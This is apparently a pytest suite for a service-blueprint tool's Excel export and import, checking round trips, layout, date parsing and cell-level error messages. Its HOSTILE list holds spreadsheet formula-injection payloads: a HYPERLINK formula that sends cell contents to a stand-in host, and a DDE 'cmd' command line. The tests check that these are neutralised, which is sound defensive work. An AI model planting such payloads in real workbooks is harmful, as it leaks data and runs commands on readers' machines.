"""The blueprint as an Excel workbook: what a person sees in it, the exact round trip, and
every way a workbook can be broken (each refused by sheet, row and column, nothing read)."""

import datetime

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from blueprint.storage import XlsxError, load_blueprint
from blueprint.storage.tables import export_xlsx, import_xlsx
from blueprint.storage.tables.xlsx_codec import MAX_CELL_TEXT, escape, unescape
from tests.conftest import ROOT
from tests.factories import evidence_blueprint, future_blueprint, preferences_blueprint

VERSIONS = ROOT / "tests" / "storage" / "versions"

SHEET_ORDER = [
    "Touchpoints",
    "Frictions",
    "Improvements",
    "Flows",
    "Stages",
    "Channels",
    "Personas",
    "Preferred channels",
    "Contact reasons",
    "Measures",
    "Evidence",
    "Comments",
    "Conflicts",
    "Blueprint",
]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=cmd|' /C calc'!A0",
    "'=already quoted",
    "'",
]


def cells(path) -> dict[str, list[list]]:
    """Every sheet's values, as openpyxl reads them (formulas as their text)."""
    workbook = openpyxl.load_workbook(path)
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in workbook}


def column(workbook, sheet, name):
    ws = workbook[sheet]
    header = [c.value for c in ws[1]]
    return [row[header.index(name)].value for row in ws.iter_rows(min_row=2)]


@pytest.fixture
def exported(tmp_path, sample_path):
    path = tmp_path / "blueprint.xlsx"
    export_xlsx(load_blueprint(sample_path), path)
    return path


def test_every_sample_comes_back_exactly(sample_path, tmp_path):
    original = load_blueprint(sample_path)
    export_xlsx(original, tmp_path / "a.xlsx")
    assert import_xlsx(tmp_path / "a.xlsx") == original


def test_a_workbook_read_and_written_again_holds_the_same_cells(exported, tmp_path):
    export_xlsx(import_xlsx(exported), tmp_path / "again.xlsx")
    assert cells(tmp_path / "again.xlsx") == cells(exported)


@pytest.mark.parametrize(
    "make", [future_blueprint, preferences_blueprint, evidence_blueprint], ids=lambda f: f.__name__
)
def test_future_values_preferences_evidence_and_comments_come_back(make, tmp_path):
    original = make()
    export_xlsx(original, tmp_path / "b.xlsx")
    assert import_xlsx(tmp_path / "b.xlsx") == original


def test_one_sheet_per_kind_with_a_frozen_bold_header_and_set_widths(exported):
    workbook = openpyxl.load_workbook(exported)
    assert workbook.sheetnames == SHEET_ORDER
    for ws in workbook:
        assert ws.freeze_panes == "A2", ws.title
        assert all(cell.font.bold for cell in ws[1]), ws.title
        assert ws.column_dimensions["A"].width > 8, ws.title
    touchpoints = workbook["Touchpoints"]
    header = [c.value for c in touchpoints[1]]
    assert header[:4] == ["id", "title", "stage", "channel"]
    assert touchpoints.column_dimensions["B"].width == 30  # the title


def test_columns_with_fixed_choices_offer_them_as_drop_downs(exported):
    workbook = openpyxl.load_workbook(exported)

    def offered(sheet, name):
        ws = workbook[sheet]
        letter = openpyxl.utils.get_column_letter([c.value for c in ws[1]].index(name) + 1)
        found = [v for v in ws.data_validations.dataValidation if f"{letter}2:" in str(v.sqref)]
        assert found, f"{sheet}.{name} has no drop-down"
        return found[0]

    kind = offered("Frictions", "kind")
    assert kind.type == "list" and kind.formula1 == '"hesitation,slowdown,disruption,failure"'
    assert offered("Frictions", "gives_up").formula1 == '"yes,no"'
    assert offered("Improvements", "effort").formula1 == '"1,2,3,5,8"'
    assert offered("Channels", "kind").formula1.count(",") == 4
    severity = offered("Frictions", "severity")
    assert (severity.type, severity.formula1, severity.formula2) == ("whole", "1", "4")
    stage = offered("Touchpoints", "stage")  # the names in the Stages sheet
    assert stage.type == "list" and stage.formula1.startswith("'Stages'!$B$2:$B$")


def test_names_are_shown_where_a_person_reads_them(exported, sample_path):
    bp = load_blueprint(sample_path)
    workbook = openpyxl.load_workbook(exported)
    stages = {s.id: s.name for s in bp.stages}
    assert column(workbook, "Touchpoints", "stage") == [stages[t.stage_id] for t in bp.touchpoints]
    titles = {t.id: t.title for t in bp.touchpoints}
    assert column(workbook, "Frictions", "touchpoint") == [
        titles[f.touchpoint_id] for f in bp.frictions
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_an_inert_string_and_comes_back_exactly(text, tmp_path):
    bp = future_blueprint()
    bp.touchpoints[0].title = text
    bp.touchpoints[0].notes = text
    bp.stages[0].name = text  # a name other cells refer to
    path = tmp_path / "hostile.xlsx"
    export_xlsx(bp, path)
    workbook = openpyxl.load_workbook(path)
    for ws in workbook:
        for row in ws.iter_rows():
            assert all(c.data_type != "f" for c in row), ws.title
    title = workbook["Touchpoints"]["B2"]
    assert title.data_type == "s" and title.value.startswith("'")
    assert import_xlsx(path) == bp


@pytest.mark.parametrize(
    "text", ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"]
)
def test_text_spelt_like_an_error_value_is_a_string_and_comes_back_exactly(text, tmp_path):
    bp = future_blueprint()
    bp.touchpoints[0].notes = text
    bp.stages[0].name = text  # a name other cells refer to
    path = tmp_path / "errors.xlsx"
    export_xlsx(bp, path)
    workbook = openpyxl.load_workbook(path)
    ws, at = rows_of(workbook, "Touchpoints")
    for name in ("notes", "stage"):
        cell = ws.cell(2, at[name])
        assert (cell.value, cell.data_type) == (text, "s"), name
    assert import_xlsx(path) == bp


def test_text_that_xml_cannot_hold_comes_back_exactly(tmp_path):
    bp = future_blueprint()
    odd = ["a\rb\r\nc", "bell\x07 and null\x00", "_x0041_ is not A", " ", "\n", "\ufffe", "é😀"]
    for touchpoint, text in zip(bp.touchpoints, odd, strict=False):
        touchpoint.notes = text
    bp.touchpoints[0].customer_action = "_x005F_x0041_"
    export_xlsx(bp, tmp_path / "odd.xlsx")
    assert import_xlsx(tmp_path / "odd.xlsx") == bp
    # What Excel shows is the text itself, not the escapes.
    assert escape("a\rb") == "a_x000D_b" and unescape("a_x000D_b") == "a\rb"


def test_a_text_too_long_for_an_excel_cell_is_refused_by_row_and_column(tmp_path):
    bp = future_blueprint()
    bp.touchpoints[1].notes = "x" * (MAX_CELL_TEXT + 1)
    with pytest.raises(XlsxError) as caught:
        export_xlsx(bp, tmp_path / "long.xlsx")
    assert "Touchpoints row 3, column 'notes'" in str(caught.value)
    assert "32,767" in str(caught.value) and not (tmp_path / "long.xlsx").exists()


# --- what a person does to the workbook -----------------------------------------------------


def edit(path, change):
    workbook = openpyxl.load_workbook(path)
    change(workbook)
    workbook.save(path)
    return path


def rows_of(workbook, sheet):
    ws = workbook[sheet]
    header = [c.value for c in ws[1]]
    return ws, {name: i + 1 for i, name in enumerate(header)}


@pytest.fixture
def small(tmp_path):
    path = tmp_path / "small.xlsx"
    export_xlsx(future_blueprint(), path)
    return path


def test_a_row_added_by_hand_gets_an_id_and_its_stage_by_name(small):
    def add(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.append(
            {at["title"]: "Chat about the date", at["stage"]: "install", at["channel"]: "SMS"}
        )

    bp = import_xlsx(edit(small, add))
    added = bp.touchpoints[-1]
    assert added.title == "Chat about the date" and len(added.id) == 32
    assert (added.stage_id, added.channel_id) == ("s2", "sms")


def test_numbers_and_dates_typed_in_a_spreadsheet_are_read(small):
    def type_in(workbook):
        ws, at = rows_of(workbook, "Measures")
        ws.append(
            {
                at["touchpoint"]: "Order online",
                at["name"]: "Visits",
                at["value"]: "1250.5",
                at["date"]: datetime.date(2026, 3, 31),
            }
        )
        ws.append({at["name"]: "NPS", at["value"]: -12, at["date"]: "2026-04-30"})

    bp = import_xlsx(edit(small, type_in))
    visits, nps = bp.measures[-2:]
    assert (visits.touchpoint_id, visits.value, visits.date) == ("t1", 1250.5, "2026-03-31")
    assert (nps.touchpoint_id, nps.value, nps.date) == (None, -12.0, "2026-04-30")


def problems(path) -> list[str]:
    with pytest.raises(XlsxError) as caught:
        import_xlsx(path)
    assert str(caught.value).startswith(str(path))
    return caught.value.problems


def test_every_bad_cell_is_named_by_sheet_row_and_column_at_once(small):
    def spoil(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.cell(2, at["emotion"], 5)
        ws.cell(3, at["stage"], "Nowhere")
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(2, at["touchpoint_id"], "t404")
        ws.cell(3, at["touchpoint"], "Order online")  # not the touchpoint its id names
        ws.cell(3, at["gives_up"], "maybe")

    found = problems(edit(small, spoil))
    assert (
        found[0]
        == "Touchpoints row 2, column 'emotion': must be a whole number from -2 to 2 (got '5')"
    )
    assert found[1].startswith("Touchpoints row 3, column 'stage': no stage is named 'Nowhere'")
    assert "'Order', 'Install'" in found[1]
    assert any(
        p.startswith("Frictions row 2, column 'touchpoint_id': no touchpoint has") for p in found
    )
    assert any(
        p.startswith("Frictions row 3, column 'touchpoint_id': is the touchpoint") for p in found
    )
    assert "Frictions row 3, column 'gives_up': must be yes or no (got 'maybe')" in found


def test_every_problem_of_a_row_is_named_in_one_pass(small):
    """A bad emotion hid the empty title of the same row until the next import."""

    def spoil(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.cell(2, at["emotion"]).value = 5
        ws.cell(2, at["epic_easy"]).value = 9
        ws.cell(2, at["title"]).value = "   "

    found = problems(edit(small, spoil))
    assert [p.split(":")[0] for p in found] == [
        "Touchpoints row 2, column 'emotion'",
        "Touchpoints row 2, column 'epic_easy'",
        "Touchpoints row 2, column 'title'",
    ]


def test_a_duplicate_id_is_named_by_its_row(small):
    def duplicate(workbook):
        ws, at = rows_of(workbook, "Stages")
        ws.cell(3, at["id"], "s1")

    assert problems(edit(small, duplicate)) == [
        "Stages row 3, column 'id': uses the same id as stage \"Order\"; every id must be "
        "unique in the file"
    ]


def test_a_formula_in_a_cell_is_refused_by_row_and_column(small):
    def formula(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.cell(3, at["title"], '=B2&" again"')
        ws, at = rows_of(workbook, "Channels")
        ws.cell(2, at["cost_per_contact"], "=2*3")

    # Only the two cells: the touchpoints in the channel of the refused row are not
    # reported again for naming it.
    found = problems(edit(small, formula))
    assert len(found) == 2
    assert found[0].startswith(
        "Channels row 2, column 'cost_per_contact': holds a formula (=2*3); blueprint reads "
        "values, not formulas"
    )
    assert found[1].startswith("Touchpoints row 3, column 'title': holds a formula (=B2&")


def test_an_error_value_is_refused(small):
    def error(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(2, at["frequency_count"], "#N/A")

    assert problems(edit(small, error)) == [
        "Frictions row 2, column 'frequency_count': holds the error value #N/A; put a value "
        "there, or leave it empty"
    ]


def test_merged_cells_are_refused_with_their_range(small):
    def merge(workbook):
        workbook["Touchpoints"].merge_cells("C2:C4")

    assert problems(edit(small, merge)) == [
        "Touchpoints: cells C2:C4 are merged; unmerge them and fill in every row (a merged "
        "cell holds its value in its first row only)"
    ]


def test_a_date_typed_as_text_in_another_order_is_refused(small):
    def date_as_text(workbook):
        ws, at = rows_of(workbook, "Measures")
        ws.append({at["name"]: "NPS", at["value"]: 31, at["date"]: "31.12.25"})

    assert problems(edit(small, date_as_text)) == [
        "Measures row 2, column 'date': must be a date: a date cell, or text written "
        "YYYY-MM-DD such as 2026-10-31 (got '31.12.25')"
    ]


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        ("30/09/2026", "2026-09-30"),  # the day first, as a European Excel saves a CSV file
        ("9/30/2026", "2026-09-30"),  # the month first, as an American one does
        ("03.04.2026", "2026-04-03"),  # dots: always the day first
        ("30-9-2026", "2026-09-30"),  # dashes, as a Dutch Excel writes them
        ("2026/09/30", "2026-09-30"),  # the year first, as a Japanese or Chinese one does
    ],
)
def test_a_date_in_a_form_that_says_which_is_the_day_is_read(typed, read):
    """Excel writes a CSV file's dates in the computer's short form when it saves it: every
    dated row of a folder opened and saved in Excel was refused."""
    from blueprint.storage.tables.cells import iso_date

    assert iso_date(typed) == read


@pytest.mark.parametrize("typed", ["03/04/2026", "31/02/2026", "1/2/26"])
def test_a_date_that_could_be_two_or_none_is_refused(typed):
    from blueprint.storage.tables.cells import BadCell, iso_date

    with pytest.raises(BadCell, match="must be a date"):
        iso_date(typed)


def test_a_missing_sheet_is_named(small):
    def drop(workbook):
        del workbook["Flows"]

    found = problems(edit(small, drop))
    assert len(found) == 1 and "has no sheet 'Flows'" in found[0]
    # It has 13 sheets left: ten named, and the rest counted (they were left out unsaid).
    assert "'Measures', 'Evidence' and 3 more)" in found[0]


def test_a_missing_column_is_named_once_not_again_in_every_row_naming_its_sheet(small):
    def drop(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.delete_cols(at["stage"])

    # Flows and frictions name the touchpoints: they are not reported as unknown.
    assert problems(edit(small, drop)) == [
        "Touchpoints: has no column 'stage' (the header is its first row)"
    ]


def test_a_column_deleted_from_an_export_is_refused_not_every_row_given_the_default(small):
    """Without its severity column, every friction point read back at severity 2."""

    def drop(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.delete_cols(at["severity"])

    assert problems(edit(small, drop)) == [
        "Frictions: has no column 'severity', which every export of it has: put the column "
        "back (deleted, it would empty that field, or give it the default, in every row)"
    ]


@pytest.mark.parametrize(
    ("sheet", "column"),
    [
        ("Touchpoints", "state"),  # future-only cards would be read as in both states
        ("Channels", "cost_per_contact"),  # every cost unknown: the plan's saving gone
        ("Touchpoints", "notes"),
    ],
)
def test_any_column_deleted_from_an_exported_sheet_is_refused(small, sheet, column):
    """Deleting the cost column read every channel back with no cost, and the plan's
    avoidable cost fell to nothing; a deleted state column put tomorrow's cards in both."""

    def drop(workbook):
        ws, at = rows_of(workbook, sheet)
        ws.delete_cols(at[column])

    assert problems(edit(small, drop)) == [
        f"{sheet}: has no column {column!r}, which every export of it has: put the column "
        "back (deleted, it would empty that field, or give it the default, in every row)"
    ]


def test_a_cell_emptied_on_an_exported_row_is_named_a_new_row_may_leave_it_empty(small, tmp_path):
    fresh = tmp_path / "fresh.xlsx"
    fresh.write_bytes(small.read_bytes())

    def clear(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(2, at["severity"]).value = None
        ws.cell(2, at["title"]).value = None  # said in the same pass
        ws.cell(3, at["frequency_source"]).value = None

    assert [p.split(":")[0] for p in problems(edit(small, clear))] == [
        "Frictions row 2, column 'severity'",
        "Frictions row 2, column 'title'",
        "Frictions row 3, column 'frequency_source'",
    ]

    def add(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.append({at["touchpoint"]: "Order online", at["title"]: "New, no severity given"})
        # Added by hand with an id of its own (to link it from an improvement by id).
        ws.append({at["id"]: "x-new", at["touchpoint"]: "Order online", at["title"]: "Linked"})

    *_, added, linked = import_xlsx(edit(fresh, add)).frictions
    assert (added.title, added.severity) == ("New, no severity given", 2)
    assert (linked.id, linked.severity) == ("x-new", 2)


def test_a_list_of_ids_with_a_wrong_separator_is_named_by_column_and_value(small):
    def comma(workbook):
        ws, at = rows_of(workbook, "Improvements")
        ws.cell(2, at["friction_ids"]).value = "x1, x2"

    assert problems(edit(small, comma)) == [
        "Improvements row 2, column 'friction_ids': 'x1, x2' is not an id (ids are separated "
        "by '; ', and hold letters, digits, '_', '.', ':' and '-')"
    ]


def test_a_number_typed_as_a_percentage_is_read_as_shown(small):
    """Typing 55% in Excel keeps 0.55 shown as a percentage: the share became 0.55."""

    def percent(workbook):
        ws, at = rows_of(workbook, "Personas")
        cell = ws.cell(2, at["share"])
        cell.value, cell.number_format = 0.55, "0%"

    assert import_xlsx(edit(small, percent)).personas[0].share == 55

    def rate(workbook):
        ws, at = rows_of(workbook, "Measures")
        ws.append({at["name"]: "Completion rate", at["value"]: 0.12})
        ws.cell(ws.max_row, at["value"]).number_format = "0%"

    measure = import_xlsx(edit(small, rate)).measures[-1]
    assert (measure.value, measure.unit) == (12, "%")  # as Import Metrics reads it


def test_a_card_renamed_in_its_own_sheet_keeps_its_links(small):
    """The Frictions, Flows and Measures sheets still show the old title beside the id: the
    import refused the rename until it was typed in every sheet."""

    def rename(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.cell(2, at["title"]).value = "Orders on the website"

    bp = import_xlsx(edit(small, rename))
    assert bp.touchpoints[0].title == "Orders on the website"
    assert [f.touchpoint_id for f in bp.frictions] == [
        f.touchpoint_id for f in future_blueprint().frictions
    ]
    assert [(f.from_id, f.to_id) for f in bp.flows] == [
        (f.from_id, f.to_id) for f in future_blueprint().flows
    ]


def test_a_misspelt_column_beside_the_real_one_is_reported(small):
    """What is typed in 'Emotoin' would be dropped while 'emotion' is read."""

    def add(workbook):
        ws = workbook["Touchpoints"]
        ws.cell(1, ws.max_column + 1, "Emotoin")
        ws.cell(2, ws.max_column, 2)

    assert problems(edit(small, add)) == [
        "Touchpoints: column 'emotoin' is not one blueprint reads, and looks like 'emotion', "
        "which is there too: remove one of them, or rename it"
    ]


def test_a_workbook_of_something_else_is_not_taken_for_a_blueprint(tmp_path):
    path = tmp_path / "calls.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["touchpoint", "calls"])
    workbook.save(path)
    assert "is not a workbook exported by blueprint" in problems(path)[0]
    assert "'Sheet'" in problems(path)[0] and "import-metrics" in problems(path)[0]


def test_a_misspelt_column_is_reported_not_silently_dropped(small):
    def misspell(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.cell(1, at["emotion"], "emotoin")

    assert problems(edit(small, misspell)) == [
        "Touchpoints: column 'emotoin' is not one blueprint reads; did you mean 'emotion'?"
    ]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"id,title\n1,a\n", "is not an Excel workbook (.xlsx): it is not a zip archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "is an old-style Excel file (.xls)"),
        (b"PK\x05\x06" + b"\0" * 18, "is not an Excel workbook"),
    ],
    ids=["text", "xls", "empty-zip"],
)
def test_files_that_are_not_workbooks(tmp_path, data, words):
    path = tmp_path / "book.xlsx"
    path.write_bytes(data)
    assert words in problems(path)[0]


def test_a_missing_file_says_so(tmp_path):
    assert problems(tmp_path / "none.xlsx") == ["cannot open: there is no such file"]


@pytest.mark.slow
def test_a_formula_in_row_100000_is_found_and_nothing_is_read(tmp_path):
    """A sheet of 100,000 rows is read in one pass, to its last row."""
    small = tmp_path / "small.xlsx"
    export_xlsx(future_blueprint(), small)
    source = openpyxl.load_workbook(small, read_only=True)
    workbook = openpyxl.Workbook(write_only=True)
    for sheet in source:
        target = workbook.create_sheet(sheet.title)
        for row in sheet.iter_rows(values_only=True):
            target.append(row)
        if sheet.title == "Measures":
            for i in range(99_998):
                target.append([None, "t3", None, "Calls", i])
            target.append([None, "t3", None, "Calls", "=1/0"])
    source.close()
    path = tmp_path / "large.xlsx"
    workbook.save(path)
    assert problems(path) == [
        "Measures row 100000, column 'value': holds a formula (=1/0); blueprint reads values, "
        "not formulas: copy the column and paste it back as values only"
    ]


def test_an_emptied_state_is_named_not_read_as_both(small):
    """A friction point of tomorrow only whose state cell was emptied was blamed on its
    touchpoint column ('is in both states, but its touchpoint is not')."""

    def clear(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(2, at["state"]).value = None

    assert problems(edit(small, clear)) == [
        "Frictions row 2, column 'state': is empty; type one of both, current, future"
    ]


@pytest.fixture
def measured(tmp_path):
    """The broadband sample, whose form time-outs follow the measure of time-outs (860)."""
    from tests.conftest import SAMPLES

    path = tmp_path / "measured.xlsx"
    bp = load_blueprint(next(p for p in SAMPLES if p.stem == "broadband-installation"))
    export_xlsx(bp, path)
    return path


def _follower_row(ws, at) -> int:
    ids = [c.value for c in ws[get_column_letter(at["frequency_measure_id"])]]
    return ids.index("ms-status-form-timeouts") + 1


def test_a_count_typed_over_the_measure_it_follows_is_refused_at_its_cell(measured):
    """The import kept 1,000 beside the measure's 860, and the plan a count the measure
    contradicted, unsaid (the editor keeps a count that follows a measure read-only)."""

    def type_over(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(_follower_row(ws, at), at["frequency_count"], 1000)

    row = _follower_row(*rows_of(openpyxl.load_workbook(measured), "Frictions"))
    assert problems(edit(measured, type_over)) == [
        f"Frictions row {row}, column 'frequency_count': says 1000 a month (measured), but it "
        "follows the measure 'Sessions ending in a time-out', which says 860 a month "
        "(measured): give it the measure's, or clear the measure it follows to keep a "
        "frequency of its own"
    ]


def test_a_measure_changed_without_the_counts_that_follow_it_names_them(measured):
    def change_measure(workbook):
        ws, at = rows_of(workbook, "Measures")
        row = [c.value for c in ws["A"]].index("ms-status-form-timeouts") + 1
        ws.cell(row, at["value"], 900)

    said = problems(edit(measured, change_measure))
    assert len(said) == 1
    assert "says 860 a month (measured), but it follows the measure" in said[0]
    assert "which says 900 a month (measured)" in said[0]


def test_a_count_and_its_measure_changed_together_are_read(measured):
    def change_both(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(_follower_row(ws, at), at["frequency_count"], 900)
        ws, at = rows_of(workbook, "Measures")
        row = [c.value for c in ws["A"]].index("ms-status-form-timeouts") + 1
        ws.cell(row, at["value"], 900)

    bp = import_xlsx(edit(measured, change_both))
    friction = next(f for f in bp.frictions if f.frequency.measure_id == "ms-status-form-timeouts")
    assert friction.frequency.count == 900


def test_a_new_row_left_without_a_state_takes_its_touchpoints(small):
    """A friction point added on a card of today only, its state left empty as a new row
    may, was refused: "is in both states, but its touchpoint is not"."""
    bp = future_blueprint()
    today_only = next(t for t in bp.touchpoints if t.state == "current")
    tomorrow_only = next(t for t in bp.touchpoints if t.state == "future")

    def add(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.append({at["touchpoint_id"]: today_only.id, at["title"]: "Hold music loops"})
        ws.append({at["touchpoint"]: tomorrow_only.title, at["title"]: "Link expires"})
        ws, at = rows_of(workbook, "Flows")
        ws.append({at["from_id"]: today_only.id, at["to_id"]: bp.touchpoints[0].id})

    back = import_xlsx(edit(small, add))
    states = {f.title: f.state for f in back.frictions}
    assert states["Hold music loops"] == "current"
    assert states["Link expires"] == "future"
    assert back.flows[-1].state == "current"


def test_a_name_not_found_lists_every_name_whole_and_the_one_meant(measured):
    """ "(there are: …, 'Retention', …)" left out Advocacy, the name to type, and a long
    persona's name was cut short ("'Older first-time fibre custom…'")."""

    def misname(workbook):
        ws, at = rows_of(workbook, "Touchpoints")
        ws.cell(2, at["stage"], "Advocay")
        ws.cell(3, at["personas"], "Older first-time")

    said = problems(edit(measured, misname))
    stage = next(p for p in said if "column 'stage'" in p)
    assert "'Awareness'" in stage and "'Retention', 'Advocacy')" in stage
    # The one meant before the list: a dialog cuts a long line short.
    assert "no stage is named 'Advocay'; did you mean 'Advocacy'? (there are: " in stage
    persona = next(p for p in said if "column 'personas'" in p)
    assert "'Older first-time fibre customer')" in persona
    assert "; did you mean 'Older first-time fibre customer'? (there are: " in persona


def test_a_row_added_without_an_id_gets_the_same_id_at_every_import(small):
    """Two people importing one edited workbook held its new friction point under two ids,
    and a merge of their files kept it twice."""

    def add(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.append({at["touchpoint_id"]: "t1", at["title"]: "Hold music loops"})
        ws.append({at["touchpoint_id"]: "t1", at["title"]: "Hold music loops"})

    path = edit(small, add)
    first, again = import_xlsx(path), import_xlsx(path)
    added = [f.id for f in first.frictions if f.title == "Hold music loops"]
    assert added == [f.id for f in again.frictions if f.title == "Hold music loops"]
    assert len(set(added)) == 2  # two rows, two friction points


def test_a_period_typed_over_the_measures_is_named_in_its_own_column(measured):
    def retype(workbook):
        ws, at = rows_of(workbook, "Frictions")
        ws.cell(_follower_row(ws, at), at["frequency_per"], "week")

    [said] = problems(edit(measured, retype))
    assert "column 'frequency_per': says 860 a week (measured)" in said


def test_a_workbook_exported_before_a_column_existed_still_imports(tmp_path):
    """A workbook exported by an older blueprint lacks the columns added since: the sheet of
    merge conflicts gained the names of the sides in version 5, and every earlier workbook
    was refused ("put the column back", a column it never had)."""
    path = tmp_path / "merged.xlsx"
    export_xlsx(load_blueprint(VERSIONS / "v4-broadband-merged.blueprint"), path)

    def as_exported_before(workbook):
        ws, at = rows_of(workbook, "Conflicts")
        for name in ("theirs_name", "ours_name"):
            ws.delete_cols(at[name])

    bp = import_xlsx(edit(path, as_exported_before))
    assert [(c.field, c.ours_name, c.theirs_name) for c in bp.conflicts] == [
        ("title", "", ""),
        ("", "", ""),
    ]


def test_a_comment_added_in_excel_takes_its_date_cell_or_now(tmp_path):
    """Excel has no date-and-time cell with an offset: every comment typed there was refused
    ("must be a date and time with its offset"), and an empty time "is required"."""
    path = tmp_path / "talk.xlsx"
    bp = evidence_blueprint()
    export_xlsx(bp, path)
    typed = datetime.datetime(2026, 11, 3, 14, 25)

    def add(workbook):
        ws, at = rows_of(workbook, "Comments")
        ws.append({at["about_id"]: "t1", at["author"]: "Ana", at["text"]: "Typed", at["at"]: typed})
        ws.append({at["about_id"]: "t1", at["author"]: "Bo", at["text"]: "No time given"})

    before = datetime.datetime.now().astimezone()
    comments = import_xlsx(edit(path, add)).comments
    *_, dated, undated = comments
    # A time on this computer's clock, kept with its offset as the file stores every time.
    assert datetime.datetime.fromisoformat(dated.at) == typed.astimezone()
    written = datetime.datetime.fromisoformat(undated.at)
    assert written.tzinfo is not None
    assert before.replace(microsecond=0) <= written <= datetime.datetime.now().astimezone()


def test_a_comments_time_emptied_in_an_exported_row_is_refused_not_made_now(tmp_path):
    """Left empty, an exported comment's time became the time of the import, unsaid, and
    two imports of one workbook gave two files."""
    path = tmp_path / "talk.xlsx"
    export_xlsx(evidence_blueprint(), path)

    def clear(workbook):
        ws, at = rows_of(workbook, "Comments")
        ws.cell(2, at["at"]).value = None

    [problem] = problems(edit(path, clear))
    assert (
        problem
        == "Comments row 2, column 'at': is empty; type a date and time, such as 2026-12-06 19:49"
    )
